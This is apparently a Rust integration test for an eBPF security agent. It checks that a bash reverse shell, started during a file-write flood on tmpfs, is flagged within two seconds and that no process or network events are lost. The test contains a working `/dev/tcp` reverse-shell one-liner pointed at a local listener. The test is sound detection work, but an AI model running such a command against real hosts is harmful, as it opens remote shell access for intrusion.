//! Never blind: `causeway up` on the real agent under a file-write flood from two processes
//! on tmpfs, with a bash reverse shell started in the middle. The shell's flag must reach
//! the API within 2 s of its exec, and no process-lifecycle or network event may be lost;
//! whatever file activity is lost must be counted by cause.

mod support;

use serde_json::Value;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use support::up::{get, start_up};
use support::{bpf_available, marker};

/// How long the flood runs, and when in it the reverse shell starts.
const FLOOD_SECS: u64 = 15;
const SHELL_AT_SECS: u64 = 7;

/// Whether an incident involves this pid (as its root or one of its processes).
fn involves(incident: &Value, pid: u32) -> bool {
    incident["root_process"]["pid"].as_u64() == Some(u64::from(pid))
        || incident["processes"]
            .as_array()
            .is_some_and(|ps| ps.iter().any(|p| p["pid"].as_u64() == Some(u64::from(pid))))
}

#[test]
fn reverse_shell_is_flagged_within_2s_during_a_file_flood() {
    if !bpf_available("reverse_shell_is_flagged_within_2s_during_a_file_flood") {
        return;
    }
    let up = start_up();
    // tmpfs, as in the report this test reproduces (issue 9: "It can be blinded").
    let shm = tempfile::tempdir_in("/dev/shm").expect("tempdir on /dev/shm");
    let flood_m = marker("flood");
    let mut flooders = Vec::new();
    for i in 0..2 {
        let file = shm.path().join(format!("flood-{i}.txt"));
        let count = shm.path().join(format!("count-{i}"));
        // `: > f` is one open for writing by bash itself per iteration; the count of
        // iterations is written at the end.
        let script = format!(
            "end=$((SECONDS+{FLOOD_SECS})); n=0; while [ $SECONDS -lt $end ]; do : > \"$1\"; n=$((n+1)); done; echo $n > \"$2\""
        );
        let child = Command::new("bash")
            .arg("-c")
            .arg(&script)
            .arg(&flood_m)
            .arg(&file)
            .arg(&count)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn flooder");
        flooders.push((child, count));
    }
    std::thread::sleep(Duration::from_secs(SHELL_AT_SECS));

    // The reverse shell, to a listener this test owns; the peer closes after a moment so
    // the shell exits.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let accepter = std::thread::spawn(move || {
        let (conn, _) = listener.accept().expect("reverse shell connects");
        std::thread::sleep(Duration::from_millis(1500));
        drop(conn);
    });
    let shell_m = marker("revshell");
    let exec_at = Instant::now();
    let mut shell = Command::new("bash")
        .arg("-c")
        .arg(format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"))
        .arg(&shell_m)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn reverse shell");
    let shell_pid = shell.id();
    let mut flagged_after = None;
    while exec_at.elapsed() < Duration::from_secs(10) {
        let list = get(&up.base, "/api/v1/incidents?limit=100");
        if list["items"]
            .as_array()
            .is_some_and(|items| items.iter().any(|i| involves(i, shell_pid)))
        {
            flagged_after = Some(exec_at.elapsed());
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    accepter.join().expect("accepter");
    let _ = shell.wait();
    let mut issued = 0u64;
    for (mut child, count) in flooders {
        let st = child.wait().expect("wait flooder");
        assert!(st.success(), "flooder failed: {st}");
        let n: u64 = std::fs::read_to_string(&count)
            .expect("flood count")
            .trim()
            .parse()
            .expect("count is a number");
        issued += n;
    }
    // Let the last folded windows and queued events through before reading health.
    std::thread::sleep(Duration::from_secs(2));
    let health = get(&up.base, "/api/v1/health");
    eprintln!(
        "flood: {issued} opens in {FLOOD_SECS} s ({:.0}/s); reverse shell flagged after {flagged_after:?}; health {health}",
        issued as f64 / FLOOD_SECS as f64
    );
    let after = flagged_after.unwrap_or_else(|| {
        panic!(
            "reverse shell (pid {shell_pid}) never flagged; incidents {}; health {health}",
            get(&up.base, "/api/v1/incidents?limit=100")
        )
    });
    assert!(
        after <= Duration::from_secs(2),
        "reverse shell flagged only after {after:?}"
    );
    assert!(issued > 20_000, "not a flood: {issued} opens");

    // No lifecycle or network event lost, anywhere (kernel rings, the node's queue).
    let lost = health["events_lost"]
        .as_object()
        .cloned()
        .unwrap_or_default();
    for critical in [
        "process.exec",
        "process.fork",
        "process.exit",
        "net.connect",
        "net.accept",
    ] {
        assert!(
            !lost
                .iter()
                .any(|(k, v)| k.ends_with(critical) && v.as_u64() != Some(0)),
            "{critical} lost: {health}"
        );
    }
    // Whatever was lost is named by cause and kind (a cause alone could hide an exec).
    for (k, v) in &lost {
        let known = ["ringbuf_full:", "bulk_ringbuf_full:", "sink_full:"]
            .iter()
            .any(|c| k.starts_with(c))
            || ["syscall_table_full", "decode_error", "store_error"].contains(&k.as_str());
        assert!(
            known,
            "loss {k}={v} not counted by cause and kind: {health}"
        );
    }
}
